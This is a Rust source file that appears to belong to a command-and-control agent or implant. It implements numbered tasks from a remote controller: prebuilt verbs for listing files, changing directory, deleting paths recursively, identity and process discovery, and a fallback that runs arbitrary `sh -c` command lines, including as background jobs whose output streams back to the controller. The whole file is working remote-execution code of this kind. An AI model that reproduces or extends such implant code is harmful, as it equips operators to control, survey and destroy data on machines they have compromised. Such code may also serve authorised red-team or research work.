//! Shell command tasks: the prebuilt command verbs (task 40) and the
//! background shell job (task 112).
//!
//! The prebuilt verbs cover the common filesystem and identity queries
//! without touching a shell; anything else falls back to `sh -c` bounded by
//! the configured command timeout.

use std::path::Path;
use std::process::Stdio;
use std::time::Duration;

use tokio::process::{Child, Command};

use crate::agent::Agent;
use crate::error::TaskError;
use crate::jobs::OutputBuffer;
use crate::script::stream_lines;
use crate::sysinfo;
use crate::tasks::TaskKind;

impl Agent {
    /// Task 40: run a prebuilt command verb (native fallback via `sh -c`).
    pub(crate) async fn handle_run_command(&self, data: &str, id: &str) -> Result<(), TaskError> {
        let trimmed = data.trim();
        let (verb, args) = match trimmed.split_once(char::is_whitespace) {
            Some((verb, rest)) => (verb, rest.trim()),
            None => (trimmed, ""),
        };

        let output = match verb {
            "ls" | "dir" => {
                let target = if args.is_empty() { "." } else { args };
                directory_listing(Path::new(target)).await?
            }
            "cd" => {
                if args.is_empty() {
                    "please provide a directory".to_string()
                } else {
                    std::env::set_current_dir(args)?;
                    current_dir()
                }
            }
            "pwd" => current_dir(),
            "rm" => remove_path(args).await?,
            "mkdir" => {
                if args.is_empty() {
                    "please provide a directory".to_string()
                } else {
                    tokio::fs::create_dir(args).await?;
                    format!("created directory: {args}")
                }
            }
            "whoami" | "getuid" => sysinfo::username(),
            "hostname" => sysinfo::hostname(),
            "ps" => process_listing().await?,
            _ => shell_capture(trimmed, self.config.command_timeout).await?,
        };

        self.responses
            .send(TaskKind::RunCommand.code(), &output, id)
            .await?;
        Ok(())
    }

    /// Task 112: run a shell command line as a background job; output streams
    /// into the job buffer and reaches the controller on the type-110 channel.
    pub(crate) async fn handle_shell_job(&self, data: &str, id: &str) -> Result<(), TaskError> {
        let command_line = data.trim_start_matches('\0').to_string();
        let sink = self.output.clone();

        let child = spawn_shell(&command_line)?;
        self.jobs
            .start(id, "shell", move |cancel| async move {
                pump_shell_job(child, sink, cancel).await;
            })
            .await?;
        Ok(())
    }
}

async fn pump_shell_job(
    child: Child,
    sink: OutputBuffer,
    cancel: tokio_util::sync::CancellationToken,
) {
    match stream_lines(child, &sink, &cancel).await {
        Ok(status) if status != 0 && status != -1 => {
            sink.append(&format!("shell job exited with status {status}"))
                .await;
        }
        Ok(_) => {}
        Err(e) => sink.append(&format!("shell job failed: {e}")).await,
    }
}

fn spawn_shell(command_line: &str) -> Result<Child, std::io::Error> {
    Command::new("sh")
        .args(["-c", command_line])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
}

/// Capture `sh -c {command_line}` with merged stdout/stderr, bounded by the
/// command timeout.
async fn shell_capture(command_line: &str, timeout: Duration) -> Result<String, TaskError> {
    let child = spawn_shell(command_line)?;
    let output = tokio::time::timeout(timeout, child.wait_with_output())
        .await
        .map_err(|_| crate::error::ScriptError::Timeout { timeout })??;

    let mut merged = String::from_utf8_lossy(&output.stdout).into_owned();
    if !output.stderr.is_empty() {
        if !merged.is_empty() && !merged.ends_with('\n') {
            merged.push('\n');
        }
        merged.push_str(&String::from_utf8_lossy(&output.stderr));
    }
    Ok(merged)
}

fn current_dir() -> String {
    std::env::current_dir()
        .map(|p| p.to_string_lossy().into_owned())
        .unwrap_or_else(|_| "?".to_string())
}

async fn remove_path(target: &str) -> Result<String, TaskError> {
    if target.is_empty() {
        return Ok("please provide a file or directory".to_string());
    }
    let meta = match tokio::fs::metadata(target).await {
        Ok(meta) => meta,
        Err(_) => return Ok("specified file/directory does not exist".to_string()),
    };
    if meta.is_file() {
        tokio::fs::remove_file(target).await?;
    } else {
        tokio::fs::remove_dir_all(target).await?;
    }
    Ok("done.".to_string())
}

/// `ls`-style listing: permissions, owner, size with unit, mtime, name.
async fn directory_listing(path: &Path) -> Result<String, TaskError> {
    use std::os::unix::fs::MetadataExt;

    let meta = tokio::fs::metadata(path).await?;
    if meta.is_file() {
        return Ok(listing_line(path, &meta));
    }

    let mut names = Vec::new();
    let mut entries = tokio::fs::read_dir(path).await?;
    while let Some(entry) = entries.next_entry().await? {
        if let Ok(meta) = entry.metadata().await {
            names.push((entry.file_name().to_string_lossy().into_owned(), meta));
        }
    }
    names.sort_by(|a, b| a.0.cmp(&b.0));

    let mut out = String::new();
    for (name, meta) in names {
        out.push_str(&format!(
            "{} {:8} {:>6} {} {}\n",
            permission_string(meta.mode(), meta.is_dir()),
            meta.uid(),
            human_size(meta.len()),
            format_mtime(&meta),
            name,
        ));
    }
    Ok(out)
}

fn listing_line(path: &Path, meta: &std::fs::Metadata) -> String {
    use std::os::unix::fs::MetadataExt;
    format!(
        "{} {:8} {:>6} {} {}\n",
        permission_string(meta.mode(), meta.is_dir()),
        meta.uid(),
        human_size(meta.len()),
        format_mtime(meta),
        path.display(),
    )
}

/// Unix `rwxrwxrwx` permission rendering with a leading `d`/`-` type flag.
fn permission_string(mode: u32, is_dir: bool) -> String {
    let mut out = String::with_capacity(10);
    out.push(if is_dir { 'd' } else { '-' });
    for shift in [6u32, 3, 0] {
        let bits = (mode >> shift) & 0o7;
        out.push(if bits & 0o4 != 0 { 'r' } else { '-' });
        out.push(if bits & 0o2 != 0 { 'w' } else { '-' });
        out.push(if bits & 0o1 != 0 { 'x' } else { '-' });
    }
    out
}

fn human_size(bytes: u64) -> String {
    if bytes > 1024 * 1024 {
        format!("{}MB", bytes.div_ceil(1024 * 1024))
    } else if bytes > 1024 {
        format!("{}KB", bytes.div_ceil(1024))
    } else {
        format!("{bytes}B")
    }
}

fn format_mtime(meta: &std::fs::Metadata) -> String {
    use chrono::{DateTime, Local};
    meta.modified()
        .map(|t| DateTime::<Local>::from(t).format("%Y-%m-%d %H:%M").to_string())
        .unwrap_or_else(|_| "?".to_string())
}

/// Process listing from /proc: pid, owner uid, and command name.
async fn process_listing() -> Result<String, TaskError> {
    let mut rows = Vec::new();
    let mut entries = tokio::fs::read_dir("/proc").await?;
    while let Some(entry) = entries.next_entry().await? {
        let name = entry.file_name();
        let Ok(pid) = name.to_string_lossy().parse::<u32>() else {
            continue;
        };
        let comm = tokio::fs::read_to_string(entry.path().join("comm"))
            .await
            .unwrap_or_default();
        let uid = tokio::fs::metadata(entry.path())
            .await
            .map(|m| {
                use std::os::unix::fs::MetadataExt;
                m.uid()
            })
            .unwrap_or(0);
        rows.push((pid, uid, comm.trim().to_string()));
    }
    rows.sort();

    let mut out = String::from("PID      UID      COMMAND\n");
    for (pid, uid, comm) in rows {
        out.push_str(&format!("{pid:<8} {uid:<8} {comm}\n"));
    }
    Ok(out)
}
